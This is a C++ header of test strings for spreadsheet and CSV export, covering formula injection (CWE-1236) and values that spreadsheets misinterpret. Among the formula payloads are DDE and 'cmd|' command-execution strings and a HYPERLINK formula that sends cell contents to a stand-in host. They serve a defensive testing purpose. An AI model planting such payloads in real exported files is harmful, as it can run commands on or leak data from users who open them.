// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <array>
#include <string_view>

/// Texts that some spreadsheet, opened in some way, was seen to run (CWE-1236).
inline constexpr auto formulaPayloads = [] {
    using namespace std::string_view_literals;
    return std::array{"=1+1"sv,
                      "+1+1"sv,
                      "-1+1"sv,
                      "@SUM(1+1)"sv,
                      "=SUM(1;1)"sv,
                      "=cmd|' /C calc'!A0"sv,
                      "+cmd|' /C calc'!A0"sv,
                      "-2+3+cmd|' /C calc'!A0"sv,
                      "@SUM(1+9)*cmd|' /C calc'!A0"sv,
                      "=10+20+cmd|' /C calc'!A0"sv,
                      "DDE (\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"sv,
                      "=DDE(\"cmd\";\"/C calc\";\"x\")"sv,
                      "=HYPERLINK(\"http://example.org/?x=\"&A1;\"Cliquez\")"sv,
                      "=WEBSERVICE(\"http://example.org/\")"sv,
                      "=IMPORTXML(CONCAT(\"http://example.org\"),\"//a\")"sv,
                      "\t=1+1"sv,
                      "\r=1+1"sv,
                      "\n=1+1"sv,
                      "\r\n=1+1"sv,
                      "\0=1+1"sv,
                      "  =1+1"sv,
                      "\xC2\xA0=1+1"sv,
                      "\xE2\x80\xAF=1+1"sv,
                      "\xEF\xBB\xBF=1+1"sv,
                      "\xE2\x80\x8B=1+1"sv,
                      "\xEF\xBC\x9D"
                      "1+1"sv,
                      "\xEF\xBC\x8B"
                      "1+1"sv,
                      "\xEF\xBC\xA0SUM(1)"sv,
                      "\"=1+1\""sv,
                      "\"=1+1"sv,
                      "'=1+1"sv,
                      "merci;=1+1;fin"sv,
                      "merci,=1+1,fin"sv,
                      "merci\t=1+1\tfin"sv,
                      "merci\n=1+1\nfin"sv,
                      "merci; =1+1"sv,
                      "merci;@SUM(1+1);"sv,
                      "\";=1+1;\""sv,
                      "\",=1+1,\""sv,
                      "{=1+1}"sv,
                      "=-1"sv,
                      "%0A=1+1"sv};
}();

/// Texts that spreadsheets like to read as something else, and characters that they like to lose.
inline constexpr auto fragileTexts = [] {
    using namespace std::string_view_literals;
    return std::array{"01000"sv,
                      "2A"sv,
                      "1E5"sv,
                      "3-4"sv,
                      "12/03"sv,
                      "12/03/2025"sv,
                      "123456789012345678"sv,
                      "000123456789012345"sv,
                      "1,5"sv,
                      "1.5"sv,
                      "50 %"sv,
                      "VRAI"sv,
                      "#N/A"sv,
                      "_x0041_"sv,
                      "<b>& \"gras\"</b>"sv,
                      "Préfecture d’Évreux – cœur, 12 € · naïve"sv,
                      "1\xE2\x80\xAF"
                      "204"sv,
                      "mille\xC2\xA0mercis \xF0\x9F\x99\x82"sv,
                      " blancs autour "sv,
                      "deux\nlignes"sv};
}();
